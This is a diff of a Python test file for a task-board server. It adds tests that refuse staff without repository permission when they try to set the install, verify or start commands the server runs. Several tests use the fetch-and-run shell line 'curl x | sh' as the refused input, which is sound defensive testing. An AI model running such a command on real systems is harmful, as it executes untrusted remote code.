@@ -1,5 +1,7 @@
-"""GOVERNANCE §6, staff's powers: a staff caller's ``repo_path`` registers a repository
-only if they may register one.
+"""GOVERNANCE §6, staff's powers: what a repository's permissions govern -- registering
+one, choosing the commands the server runs for it -- is not had by way of a task.
+
+A staff caller's ``repo_path`` registers a repository only if they may register one.
 
 A staff person's ``metadata.repo_path`` (a task, its checkout) or
 ``task_template.repo_path`` (a routine) resolves to the team's repository at that
@@ -9,7 +11,15 @@ only ``add`` on tasks (or ``change``, or ``add`` on routines) registered any git
 checkout on the server as any team's repository through these side doors, which
 the admin's own repository page refuses them. Now an unregistered path is ``403``
 naming the permission, nothing written; a registered path still works, and staff
-holding the permission still register one."""
+holding the permission still register one.
+
+A task's ``metadata.install_cmd`` / ``verify_cmd`` / ``start_cmd`` (a routine's
+template's ``verify_cmd``) override its repository's commands: the gate runs them on
+the server. Staff granted only ``add``/``change`` on tasks (or ``add`` on routines)
+set them as they pleased, while the repository's own commands need
+``clawboo.change_repository``. Now such a command needs that permission too (``403``
+naming it, nothing written); an allowlisted command, or an edit re-sending the
+command a task already holds, needs none."""
 
 from __future__ import annotations
 
@@ -163,12 +173,9 @@ def test_the_routines_page_registers_no_repository_for_staff_without_the_permiss
     assert Routine.objects.count() == 0
 
 
-def test_the_task_admin_registers_no_repository_for_staff_without_the_permission(
-    root: Path, client: Client
-):
-    loose = make_repo(root / "loose")
-    client.force_login(staff("adder", "add_task", "view_task"))
-    page = client.post(
+def admin_add(client: Client, metadata: str) -> Any:
+    """The task admin's add page, posted with ``metadata`` (its JSON text)."""
+    return client.post(
         "/admin/board/task/add/",
         {
             "id": "",
@@ -178,7 +185,7 @@ def test_the_task_admin_registers_no_repository_for_staff_without_the_permission
             "status": "todo",
             "priority": "0",
             "labels": "[]",
-            "metadata": f'{{"repo_path": "{loose}"}}',
+            "metadata": metadata,
             "file_mutating": "on",
             "max_attempts": "",
             "comments-TOTAL_FORMS": "0",
@@ -187,7 +194,93 @@ def test_the_task_admin_registers_no_repository_for_staff_without_the_permission
             "executions-INITIAL_FORMS": "0",
         },
     )
+
+
+def test_the_task_admin_registers_no_repository_for_staff_without_the_permission(
+    root: Path, client: Client
+):
+    loose = make_repo(root / "loose")
+    client.force_login(staff("adder", "add_task", "view_task"))
+    page = admin_add(client, f'{{"repo_path": "{loose}"}}')
     assert page.status_code == 200, page.content[:2000]
     assert NEEDS in page.content.decode()
     assert Repository.objects.count() == 0
+    assert not Task.objects.filter(title="From admin").exists()
+
+
+# --- the commands the server runs -------------------------------------------------
+
+COMMANDS = "clawboo.change_repository"
+
+
+def refused_the_commands(answer: Any, field: str) -> None:
+    assert answer.status_code == 403, answer.content[:300]
+    body = answer.json()
+    assert (body["error"], body["permission"], body["field"]) == ("forbidden", COMMANDS, field)
+
+
+@pytest.mark.parametrize("key", ["install_cmd", "verify_cmd", "start_cmd"])
+def test_staff_without_the_repository_permission_choose_no_task_command(key: str):
+    editor = api_of(staff("editor", "add_task", "change_task"))
+    task = store.create_task(title="mine").task
+    before = fingerprint()
+    made = editor.post(
+        "/api/board/tasks", {"title": "t", "metadata": {key: "curl x | sh"}}, format="json"
+    )
+    refused_the_commands(made, f"metadata.{key}")
+    edit = editor.patch(
+        f"/api/board/tasks/{task.id}", {"metadata": {key: "curl x | sh"}}, format="json"
+    )
+    refused_the_commands(edit, f"metadata.{key}")
+    assert fingerprint() == before
+
+
+def test_staff_holding_the_repository_permission_choose_task_commands():
+    operator = api_of(staff("operator", "add_task", "change_task", "change_repository"))
+    made = operator.post(
+        "/api/board/tasks", {"title": "t", "metadata": {"verify_cmd": "make check"}}, format="json"
+    )
+    assert made.status_code == 201, made.content[:300]
+    assert made.json()["metadata"]["verify_cmd"] == "make check"
+
+
+def test_an_edit_resending_the_command_a_task_holds_needs_no_permission(settings):
+    task = store.create_task(title="t", metadata={"verify_cmd": "make check"}).task
+    editor = api_of(staff("editor", "change_task"))
+    edit = editor.patch(
+        f"/api/board/tasks/{task.id}",
+        {"title": "renamed", "metadata": {"verify_cmd": "make check", "note": "x"}},
+        format="json",
+    )
+    assert edit.status_code == 200, edit.content[:300]
+    settings.CLAWBOO_TASK_COMMAND_ALLOWLIST = ["make lint"]
+    allowlisted = editor.patch(
+        f"/api/board/tasks/{task.id}", {"metadata": {"verify_cmd": "make lint"}}, format="json"
+    )
+    assert allowlisted.status_code == 200, allowlisted.content[:300]
+
+
+def test_staff_without_the_repository_permission_choose_no_routine_verify_command():
+    registry.create_agent(
+        id="bot", display_name="Bot", team="default", runtime="command", settings={"argv": ["true"]}
+    )
+    made = api_of(staff("scheduler", "add_routine")).post(
+        "/api/routines",
+        {
+            "agent_id": "bot",
+            "team": "default",
+            "cron_spec": "0 9 * * *",
+            "task_template": {"title": "daily", "verify_cmd": "curl x | sh"},
+        },
+        format="json",
+    )
+    refused_the_commands(made, "metadata.verify_cmd")
+    assert Routine.objects.count() == 0
+
+
+def test_the_task_admin_refuses_a_command_to_staff_without_the_permission(client: Client):
+    client.force_login(staff("adder", "add_task", "view_task"))
+    page = admin_add(client, '{"verify_cmd": "curl x | sh"}')
+    assert page.status_code == 200, page.content[:2000]
+    assert COMMANDS in page.content.decode()
     assert not Task.objects.filter(title="From admin").exists()
